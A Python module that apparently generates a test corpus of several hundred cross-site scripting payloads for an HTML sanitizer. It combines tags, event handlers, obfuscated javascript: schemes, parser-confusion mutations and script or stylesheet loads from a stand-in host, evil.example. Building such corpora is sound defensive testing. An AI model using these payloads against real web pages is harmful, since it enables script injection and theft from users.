"""Text that would do harm if a browser took it for more than text: generated, so that there are many."""

from itertools import product

TAGS = (
    "img",
    "svg",
    "body",
    "iframe",
    "a",
    "p",
    "div",
    "table",
    "math",
    "video",
    "details",
    "input",
    "style",
    "b",
    "x",
)
HANDLERS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "ONERROR", "onpointerenter", "style")
SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "/admin/logout/",
    "\\\\evil.example\\x",
    "ftp://evil.example/",
    "https:evil",
    "http://",
    "mailto:",
    "blob:https://evil.example/1",
)
LINKS = (
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    "<a href={}>x</a>",
    '<A HREF="{}">x</A>',
    '<area href="{}">',
    '<base href="{}">',
)
WHOLE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x></SCRIPT>",
    "<script/src=data:,alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import '//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<table background=javascript:alert(1)><td style='x:expression(alert(1))'>x</table>",
    "{{constructor.constructor('alert(1)')()}}",
    "</p></td></li><script>alert(1)</script>",
)


def payloads() -> list[str]:
    """More than five hundred of them."""
    with_handlers = [f"<{tag} src=x {handler}=alert(1)>x" for tag, handler in product(TAGS, HANDLERS)]
    quoted = [
        f"<{tag} {handler}=\"alert(1)\" {handler}='alert(2)'>x</{tag}>" for tag, handler in product(TAGS, HANDLERS)
    ]
    slashed = [f"<{tag}/{handler}=alert`1`//>x" for tag, handler in product(TAGS, HANDLERS)]
    links = [link.format(scheme) for link, scheme in product(LINKS, SCHEMES)]
    return [*WHOLE, *with_handlers, *quoted, *slashed, *links]
